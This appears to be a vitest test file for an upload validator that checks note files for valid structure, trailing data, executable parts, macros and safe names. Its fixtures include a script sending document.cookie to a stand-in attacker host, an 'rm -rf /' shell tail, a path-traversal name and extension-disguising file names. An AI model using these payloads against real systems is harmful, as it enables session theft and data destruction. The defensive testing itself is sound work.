/**
 * Whole-structure checks of note files (SPEC section 13) and safe file names: the hostile files of
 * issue 13, each format's end marker, nothing after it, zip consistency, package parts, executables
 * and macros; every refusal typed, naming the rule, the place and what was expected.
 */
import { Result } from "effect"
import * as fc from "fast-check"
import { describe, expect, it } from "vitest"
import * as N from "../../src/domain/NoteFile.ts"
import * as F from "../fixtures/files.ts"

const rejection = (result: Result.Result<N.CheckedFile, N.FileRejected>): N.FileRejected => {
  if (Result.isSuccess(result)) throw new Error(`expected a rejection, got ${JSON.stringify(result.success)}`)
  return result.failure
}

const refuse = (name: string, bytes: Uint8Array, path?: string) => rejection(N.checkFile({ name, bytes, path }))

const accepted = (name: string, bytes: Uint8Array) => Result.isSuccess(N.checkFile({ name, bytes }))

const nameOf = (kind: N.FileKind) => F.allowedFiles.find((f) => f.kind === kind)!.name

const u32le = (n: number) => [n & 0xff, (n >>> 8) & 0xff, (n >>> 16) & 0xff, (n >>> 24) & 0xff]

/** A jar: a zip with a manifest and a class file. */
const jar = () =>
  F.zip([
    { name: "META-INF/MANIFEST.MF", content: "Manifest-Version: 1.0\nMain-Class: Evil\n" },
    { name: "Evil.class", content: F.concat([0xca, 0xfe, 0xba, 0xbe], new Uint8Array(16)) }
  ])

const html = F.latin1("<html><body><script>fetch('https://attacker.example/?c='+document.cookie)</script></body></html>\n")

/** Checks the refusal's shape: rule, place, expectation, and a message naming them but not the name. */
const expectRefusal = (refused: N.FileRejected, rule: N.FileRejected["rule"], atPart?: string) => {
  expect(refused._tag).toBe("FileRejected")
  expect(refused.rule).toBe(rule)
  expect(refused.message).toContain(`(rule ${rule})`)
  expect(refused.at).toBeDefined()
  expect(refused.expected).toBeDefined()
  expect(refused.message).toContain(refused.at!)
  expect(refused.message).toContain(refused.expected!)
  if (atPart !== undefined) expect(refused.at).toContain(atPart)
}

describe("issue 13: the hostile files are refused", () => {
  it("file.structure-valid: a PDF header followed by a PE executable or by HTML with script has no PDF end", () => {
    expectRefusal(refuse("invoice.pdf", F.concat(F.latin1("%PDF-1.7\n"), F.windowsExecutable())), "file.structure-valid")
    expectRefusal(refuse("invoice.pdf", F.concat(F.latin1("%PDF-1.7\n"), html)), "file.structure-valid")
    // A %%EOF written after the HTML does not make it a PDF: there is no startxref.
    const faked = refuse("invoice.pdf", F.concat(F.latin1("%PDF-1.7\n"), html, F.latin1("%%EOF\n")))
    expectRefusal(faked, "file.structure-valid")
    expect(faked.expected).toContain("startxref")
  })

  it("file.nothing-after-end: a valid PDF followed by an executable or HTML is refused", () => {
    const withExe = refuse("invoice.pdf", F.concat(F.pdf(), F.windowsExecutable()))
    // The PDF ends in "%%EOF\n": what follows the marker starts at its newline.
    expectRefusal(withExe, "file.nothing-after-end", `byte ${F.pdf().length - 1}`)
    expect(withExe.detectedKind).toBe("pdf")
    expectRefusal(refuse("invoice.pdf", F.concat(F.pdf(), html)), "file.nothing-after-end")
  })

  it("file.nothing-after-end: a PNG followed by a zip, a GIF followed by a jar, a WebP followed by a script", () => {
    expectRefusal(refuse("photo.png", F.concat(F.png(), F.docx())), "file.nothing-after-end", `byte ${F.png().length}`)
    expectRefusal(refuse("pixel.gif", F.concat(F.gif(), jar())), "file.nothing-after-end", `byte ${F.gif().length}`)
    expectRefusal(refuse("pixel.webp", F.concat(F.webp(), F.latin1("<script>alert(1)</script>"))), "file.nothing-after-end")
    expectRefusal(refuse("photo.jpg", F.concat(F.jpeg(), F.windowsExecutable())), "file.nothing-after-end")
  })

  it("file.structure-valid: the 3-byte JPEG FF D8 FF and a WebP header followed by <script> are refused", () => {
    expectRefusal(refuse("photo.jpg", Uint8Array.from([0xff, 0xd8, 0xff])), "file.structure-valid")
    const script = F.latin1("<script>alert(document.domain)</script>")
    const riff = F.concat(F.latin1("RIFF"), u32le(4 + script.length), F.latin1("WEBP"), script)
    expectRefusal(refuse("pixel.webp", riff), "file.structure-valid")
    const lying = F.concat(F.latin1("RIFF"), u32le(4), F.latin1("WEBP"), script)
    expectRefusal(refuse("pixel.webp", lying), "file.nothing-after-end")
  })

  it("file.no-executable-content: a zip with [Content_Types].xml, word/ and evil.exe named .docx is refused, naming the entry", () => {
    const evil = F.zip([...F.docxEntries, { name: "evil.exe", content: F.windowsExecutable() }])
    expect(N.detectFileKind(evil)).toBe("docx")
    expectRefusal(refuse("letter.docx", evil, "files.1"), "file.no-executable-content", "entry evil.exe")
    expect(refuse("letter.docx", evil, "files.1").path).toBe("files.1")
    for (const name of ["word/media/run.exe", "word/x.dll", "word/a.js", "docProps/b.vbs", "word/c.bat", "word/d.cmd", "word/e.ps1", "word/f.jar", "word/G.CLASS", "customXml/h.sh"]) {
      const bytes = F.zip([...F.docxEntries, { name, content: "x" }])
      expectRefusal(refuse("letter.docx", bytes), "file.no-executable-content", `entry ${name}`)
    }
    expectRefusal(refuse("letter.docx", F.zip([...F.docxEntries, { name: "word/activeX/activeX1.bin", content: "x" }])), "file.no-executable-content")
  })

  it("file.no-macros: a macro-enabled document renamed .docx is refused (vbaProject.bin, vbaData.xml, macro-enabled content types)", () => {
    const [types, ...rest] = F.docxEntries
    const macroTypes = {
      name: types!.name,
      content: (types!.content as string).replace(
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
        "application/vnd.ms-word.document.macroEnabled.main+xml"
      )
    }
    const docm = F.zip([macroTypes, ...rest, { name: "word/vbaProject.bin", content: F.ole([{ name: "VBA", children: [{ name: "dir" }] }]) }])
    expectRefusal(refuse("letter.docx", docm), "file.no-macros", "entry word/vbaProject.bin")
    expectRefusal(refuse("letter.docx", F.zip([macroTypes, ...rest])), "file.no-macros", "[Content_Types].xml")
    expectRefusal(refuse("letter.docx", F.zip([...F.docxEntries, { name: "word/vbaData.xml", content: "<x/>" }])), "file.no-macros")
    expectRefusal(refuse("letter.docx", F.zip([...F.docxEntries, { name: "word/embeddings/Book1.xlsm", content: "x" }])), "file.no-macros")
    const xlsm = F.zip([
      { name: "[Content_Types].xml", content: "<Types><Default Extension=\"bin\" ContentType=\"application/vnd.ms-office.vbaProject\"/></Types>" },
      { name: "_rels/.rels", content: "<Relationships/>" },
      { name: "xl/workbook.xml", content: "<workbook/>" }
    ])
    expectRefusal(refuse("figures.xlsx", xlsm), "file.no-macros")
  })

  it("file.no-macros: legacy Office files with macro storages (Macros, _VBA_PROJECT_CUR, VBA) are refused", () => {
    const word = F.ole([{ name: "WordDocument" }, { name: "1Table" }, { name: "Macros", children: [{ name: "VBA", children: [{ name: "dir" }] }, { name: "PROJECT" }] }])
    expect(N.detectFileKind(word)).toBe("doc")
    expectRefusal(refuse("letter.doc", word), "file.no-macros", "Macros")
    const excel = F.ole([{ name: "Workbook" }, { name: "_VBA_PROJECT_CUR", children: [{ name: "VBA", children: [{ name: "dir" }] }] }])
    expectRefusal(refuse("figures.xls", excel), "file.no-macros", "_VBA_PROJECT_CUR")
    // A macro storage nested deeper than the root is found too: the whole directory is walked.
    const nested = F.ole([{ name: "WordDocument" }, { name: "ObjectPool", children: [{ name: "_1234", children: [{ name: "VBA", children: [] }] }] }])
    expectRefusal(refuse("letter.doc", nested), "file.no-macros", "VBA")
  })
})

describe("file structures", () => {
  it("file.structure-valid: every allowed fixture passes, and so does a PDF padded to 800 KB", () => {
    for (const { bytes, kind, name } of F.allowedFiles) expect(accepted(name, bytes), kind).toBe(true)
    expect(accepted("big.pdf", F.pdf({ size: 819_200 }))).toBe(true)
  })

  it("file.structure-valid: a PDF with incremental updates (several %%EOF) and whitespace after the last is accepted", () => {
    const original = F.pdf()
    const update = "1 0 obj\n<< /Type /Catalog /Pages 2 0 R /Lang (de) >>\nendobj\n"
    const xrefAt = original.length + update.length
    const appended = `${update}xref\n1 1\n${String(original.length).padStart(10, "0")} 00000 n \ntrailer\n<< /Size 4 /Root 1 0 R /Prev 0 >>\nstartxref\n${xrefAt}\n%%EOF\r\n \n`
    expect(accepted("offer.pdf", F.concat(original, F.latin1(appended)))).toBe(true)
    // startxref that points elsewhere than a cross-reference section
    const wrong = appended.replace(`startxref\n${xrefAt}`, `startxref\n${xrefAt + 3}`)
    expectRefusal(refuse("offer.pdf", F.concat(original, F.latin1(wrong))), "file.structure-valid", "byte")
  })

  it("file.structure-valid: a PNG with a wrong CRC, without IEND or without IDAT is refused", () => {
    const png = F.png()
    const badCrc = Uint8Array.from(png)
    badCrc[33 - 1] = (badCrc[33 - 1] ?? 0) ^ 0xff // last byte of the IHDR CRC (8 + 4 + 4 + 13 + 4 = 33)
    expectRefusal(refuse("shot.png", badCrc), "file.structure-valid", "byte 29")
    expectRefusal(refuse("shot.png", png.subarray(0, png.length - 12)), "file.structure-valid")
    const noData = F.concat(png.subarray(0, 33), png.subarray(png.length - 12))
    expectRefusal(refuse("shot.png", noData), "file.structure-valid")
  })

  it("file.structure-valid: a GIF without its trailer and a JPEG without a frame are refused", () => {
    const gif = F.gif()
    expectRefusal(refuse("pixel.gif", gif.subarray(0, gif.length - 1)), "file.structure-valid")
    const noFrame = F.concat([0xff, 0xd8], [0xff, 0xe0, 0x00, 0x10], F.latin1("JFIF\0"), [1, 1, 0, 0, 1, 0, 1, 0, 0], [0xff, 0xd9])
    expectRefusal(refuse("photo.jpg", noFrame), "file.structure-valid")
  })

  it("file.nothing-after-end: a compound file with bytes after its last allocated sector is refused", () => {
    expectRefusal(refuse("letter.doc", F.concat(F.doc(), F.windowsExecutable())), "file.nothing-after-end")
    expectRefusal(refuse("letter.doc", F.concat(F.doc(), new Uint8Array(512))), "file.nothing-after-end")
  })

  it("file.structure-valid: a compound file whose FAT cannot be read is refused (detection alone still names it)", () => {
    const corrupt = F.ole([{ name: "WordDocument" }], { corruptFat: true })
    expect(N.detectFileKind(corrupt)).toBe("doc")
    expectRefusal(refuse("letter.doc", corrupt), "file.structure-valid")
  })

  it("file.structure-valid: inconsistent zips are refused (duplicate names, bytes before the first entry, a central entry pointing elsewhere, encryption)", () => {
    expectRefusal(refuse("letter.docx", F.zip([...F.docxEntries, F.docxEntries[2]!])), "file.structure-valid", "entry word/document.xml")
    // an empty local header before the first entry: every offset is off
    const shifted = F.concat([0x50, 0x4b, 0x03, 0x04], new Uint8Array(26), F.docx())
    expect(N.detectFileKind(shifted)).toBe("docx")
    expectRefusal(refuse("letter.docx", shifted), "file.structure-valid")
    // the second central entry points at the first local header
    const docx = Uint8Array.from(F.docx())
    const view = new DataView(docx.buffer)
    const directory = view.getUint32(docx.length - 6, true)
    const firstCentralLength = 46 + view.getUint16(directory + 28, true)
    view.setUint32(directory + firstCentralLength + 42, 0, true)
    expectRefusal(refuse("letter.docx", docx), "file.structure-valid", "entry _rels/.rels")
    // the encryption flag on one entry
    const encrypted = Uint8Array.from(F.docx())
    const v2 = new DataView(encrypted.buffer)
    v2.setUint16(v2.getUint32(encrypted.length - 6, true) + 8, 1, true)
    expectRefusal(refuse("letter.docx", encrypted), "file.structure-valid")
  })

  it("file.structure-valid: zips written with data descriptors and with a comment are accepted", () => {
    expect(accepted("letter.docx", F.zip(F.docxEntries, { dataDescriptors: true }))).toBe(true)
    expect(accepted("letter.docx", F.zip(F.docxEntries, { comment: "written by a test" }))).toBe(true)
  })

  it("file.nothing-after-end: bytes after a zip's end record are refused", () => {
    expectRefusal(refuse("letter.docx", F.concat(F.docx(), F.latin1("#!/bin/sh\nrm -rf /\n"))), "file.nothing-after-end")
    expectRefusal(refuse("letter.odt", F.concat(F.odt(), F.png())), "file.nothing-after-end")
  })

  it("file.container-parts: parts outside an Office package's kind are refused; OpenDocument needs its manifest", () => {
    expectRefusal(refuse("letter.docx", F.zip([...F.docxEntries, { name: "payload/readme.txt", content: "x" }])), "file.container-parts", "entry payload/readme.txt")
    expectRefusal(refuse("letter.docx", F.zip([...F.docxEntries, { name: "media/image1.png", content: F.png() }])), "file.container-parts")
    expectRefusal(refuse("letter.docx", F.zip(F.docxEntries.filter((e) => e.name !== "_rels/.rels"))), "file.container-parts")
    const [mimetype, , content] = F.openDocumentEntries("application/vnd.oasis.opendocument.text")
    expectRefusal(refuse("letter.odt", F.zip([mimetype!, content!])), "file.container-parts")
    expectRefusal(refuse("letter.odt", F.zip([...F.openDocumentEntries("application/vnd.oasis.opendocument.text"), { name: "payload.txt", content: "x" }])), "file.container-parts")
    expect(accepted("letter.odt", F.zip([...F.openDocumentEntries("application/vnd.oasis.opendocument.text"), { name: "Pictures/a.png", content: F.png() }, { name: "Object 1/content.xml", content: "<x/>" }]))).toBe(true)
    expect(accepted("letter.docx", F.zip([...F.docxEntries, { name: "docProps/core.xml", content: "<x/>" }, { name: "word/media/image1.png", content: F.png() }]))).toBe(true)
  })

  it("file.no-macros: OpenDocument Basic and dialog libraries are refused; file.no-executable-content: ODF scripts too", () => {
    const odt = F.openDocumentEntries("application/vnd.oasis.opendocument.text")
    expectRefusal(refuse("letter.odt", F.zip([...odt, { name: "Basic/Standard/Module1.xml", content: "<x/>" }])), "file.no-macros", "Basic/")
    expectRefusal(refuse("letter.odt", F.zip([...odt, { name: "Dialogs/Standard/Dialog1.xml", content: "<x/>" }])), "file.no-macros")
    expectRefusal(refuse("letter.odt", F.zip([...odt, { name: "Scripts/python/run.txt", content: "x" }])), "file.no-executable-content")
  })

  it("file.nothing-after-end: any valid file followed by any bytes (other than whitespace after a PDF) is refused, never thrown at", () => {
    fc.assert(
      fc.property(fc.constantFrom(...F.allowedFiles), fc.uint8Array({ minLength: 1, maxLength: 600 }), (file, tail) => {
        const bytes = F.concat(file.bytes, tail)
        const whitespaceOnly = tail.every((c) => [0, 9, 10, 12, 13, 32].includes(c))
        const result = N.checkFile({ name: file.name, bytes })
        if (file.kind === "pdf" && whitespaceOnly) {
          expect(Result.isSuccess(result)).toBe(true)
        } else {
          expect(["file.nothing-after-end", "file.structure-valid"]).toContain(rejection(result).rule)
        }
      }),
      { numRuns: 200 }
    )
  })

  it("file.structure-valid: every strict prefix of a valid file is refused (a PDF may lose only its trailing whitespace)", () => {
    for (const { bytes, kind, name } of F.allowedFiles) {
      const step = Math.max(1, Math.floor(bytes.length / 97))
      for (let length = 0; length < bytes.length; length += step) {
        const prefix = bytes.subarray(0, length)
        const result = N.checkFile({ name, bytes: prefix })
        if (kind === "pdf" && length >= bytes.length - 1) continue
        expect(Result.isFailure(result), `${kind} cut to ${length}`).toBe(true)
      }
    }
  })

  it("file.structure-valid: corrupting any byte of a valid file never throws, and an accepted result is still of the same kind", () => {
    fc.assert(
      fc.property(fc.constantFrom(...F.allowedFiles), fc.nat(), fc.integer({ min: 1, max: 255 }), (file, at, xor) => {
        const bytes = Uint8Array.from(file.bytes)
        const i = at % bytes.length
        bytes[i] = (bytes[i] ?? 0) ^ xor
        const result = N.checkFile({ name: nameOf(file.kind), bytes })
        if (Result.isSuccess(result)) expect(result.success.kind).toBe(file.kind)
        else expect(result.failure._tag).toBe("FileRejected")
      }),
      { numRuns: 300 }
    )
  })
})

describe("file names", () => {
  it("file.name-safe: the names of issue 13 are refused, saying where and escaping what they hide", () => {
    const traversal = refuse("../../etc/passwd.png", F.png(), "files.0")
    expectRefusal(traversal, "file.name-safe", "character 2")
    expect(traversal.path).toBe("files.0")
    expect(traversal.message).toContain("a path separator")
    expect(traversal.message).not.toContain("passwd")
    const nul = refuse("a.exe\u0000.png", F.png())
    expectRefusal(nul, "file.name-safe", "character 5")
    expect(nul.message).toContain("U+0000 (a control character)")
    expect(nul.fileName).toBe("a.exe\\u{0}.png")
    const bidi = refuse("invoice\u202Eexe.png", F.png())
    expectRefusal(bidi, "file.name-safe", "character 7")
    expect(bidi.message).toContain("U+202E (a bidirectional formatting character)")
    expect(bidi.fileName).toBe("invoice\\u{202E}exe.png")
  })

  it("file.name-safe: separators, dot names, control, bidirectional and unpaired surrogate characters are refused", () => {
    const bad = [
      "dir\\scan.png", "a/b.png", "..", ".", "",
      "scan\t.png", "scan\n.png", "scan\u007f.png", "scan\u0085.png", "scan\u001b[31m.png",
      ...[0x200e, 0x200f, 0x202a, 0x202b, 0x202c, 0x202d, 0x202e, 0x2066, 0x2067, 0x2068, 0x2069].map((c) => `scan${String.fromCharCode(c)}.png`),
      "scan\ud800.png", "scan\udc00.png", "\ud83d.png"
    ]
    for (const name of bad) {
      expect(N.fileNameProblem(name), JSON.stringify(name)).toBeDefined()
    }
    for (const name of bad.filter((n) => n.endsWith(".png"))) expect(refuse(name, F.png()).rule, JSON.stringify(name)).toBe("file.name-safe")
    for (const name of ["scan.png", "Scan 2024-01-05 (1).png", "Grüße an Zoë.png", "写真.png", "photo 😀.png", "..scan.png", "a..b.png"]) {
      expect(N.fileNameProblem(name), name).toBeUndefined()
      expect(accepted(name, F.png()), name).toBe(true)
    }
  })

  it("file.name-safe: at most 255 bytes in UTF-8, counted as bytes, not characters", () => {
    expect(N.maxFileNameBytes).toBe(255)
    const ascii = `${"a".repeat(251)}.png`
    expect(accepted(ascii, F.png())).toBe(true)
    expectRefusal(refuse(`a${ascii}`, F.png()), "file.name-safe", "the name")
    const umlauts = `${"ä".repeat(125)}a.png` // 250 + 1 + 4 = 255 bytes
    expect(accepted(umlauts, F.png())).toBe(true)
    expect(refuse(`${"ä".repeat(126)}.png`, F.png()).message).toContain("256 UTF-8 bytes")
    const emoji = `${"😀".repeat(62)}a.png` // 248 + 1 + 4 = 253 bytes
    expect(accepted(emoji, F.png())).toBe(true)
    expect(refuse(`${"😀".repeat(63)}.png`, F.png()).message).toContain("256 UTF-8 bytes")
  })

  it("file.name-safe: any name with a forbidden character is refused, any other fitting name is not refused for its name", () => {
    const forbidden = fc.constantFrom("/", "\\", "\u0000", "\u0007", "\u001f", "\u007f", "\u009b", "\u200e", "\u202e", "\u2066", "\ud800", "\udfff")
    fc.assert(
      fc.property(fc.string({ maxLength: 40 }), forbidden, fc.string({ maxLength: 40 }), (before, bad, after) => {
        const name = `${before}${bad}${after}.png`
        expect(refuse(name, F.png()).rule).toBe("file.name-safe")
      }),
      { numRuns: 200 }
    )
    fc.assert(
      fc.property(fc.string({ unit: "grapheme", maxLength: 40 }), (stem) => {
        const name = `${stem}.png`
        const safe = N.fileNameProblem(name) === undefined
        expect(accepted(name, F.png())).toBe(safe)
        const printable = /^[^\u0000-\u001f\u007f-\u009f/\\\u200e\u200f\u202a-\u202e\u2066-\u2069]*$/.test(name)
        expect(safe).toBe(printable && new TextEncoder().encode(name).length <= 255)
      }),
      { numRuns: 200 }
    )
  })
})
